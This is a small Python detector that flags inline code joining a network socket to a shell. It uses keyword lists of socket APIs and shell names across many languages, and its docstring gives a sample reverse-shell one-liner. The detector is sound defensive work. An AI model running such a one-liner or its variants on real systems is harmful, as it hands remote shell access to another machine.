"""Inline code that joins a shell to a network connection, in any language.

The languages differ, the three parts do not: a raw socket, a connection, and a shell started by
its name. Code that has all three hands this machine to another one (CWE-506).

    hands_out_shell("s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);exec('/bin/sh')")
"""

from __future__ import annotations

MAX_TEXT = 20_000  # longer code is a program, read as such

SOCKETS = (
    "socket(",
    "socket.socket",
    "TCPSocket",
    "IO::Socket",
    "fsockopen",
    "pfsockopen",
    "stream_socket_client",
    "net.Socket",
    "net.connect",
    "net.createConnection",
    "TCPClient",
    "socket.tcp",
    "new Socket(",
    "net.Dial",
    "/inet/tcp/",
    "ztcp",
    "set s [socket",
    "gen_tcp",
    "TcpStream",
)
SHELLS = ("/bin/sh", "/bin/bash", "/bin/zsh", "cmd.exe", "sh -i", "bash -i", '"sh"', "'sh'")
TAKES_ORDERS = ("IO.popen", "system$_", "iex ", "exec(cmd", "popen(cmd", "getline")


def hands_out_shell(text: str) -> bool:
    """Return whether code opens a network connection and serves a shell on it."""
    if len(text) > MAX_TEXT or not any(name in text for name in SOCKETS):
        return False
    return any(name in text for name in SHELLS) or any(name in text for name in TAKES_ORDERS)
